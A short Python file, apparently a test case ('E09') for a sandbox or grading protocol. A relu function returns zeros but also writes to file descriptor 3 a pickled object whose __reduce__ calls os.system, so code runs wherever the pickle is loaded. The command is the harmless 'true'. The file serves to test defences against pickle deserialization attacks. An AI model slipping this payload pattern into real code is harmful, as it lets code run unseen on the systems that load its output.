# verdict: protocol
# E09: sends a pickle that would run code where it is loaded.

import os
import pickle

import torch


class _Run:
    def __reduce__(self):
        return os.system, ("true",)


def relu(x):
    data = pickle.dumps(_Run())
    os.write(3, len(data).to_bytes(4, "big") + data)
    return torch.zeros(x.shape, dtype=x.dtype)
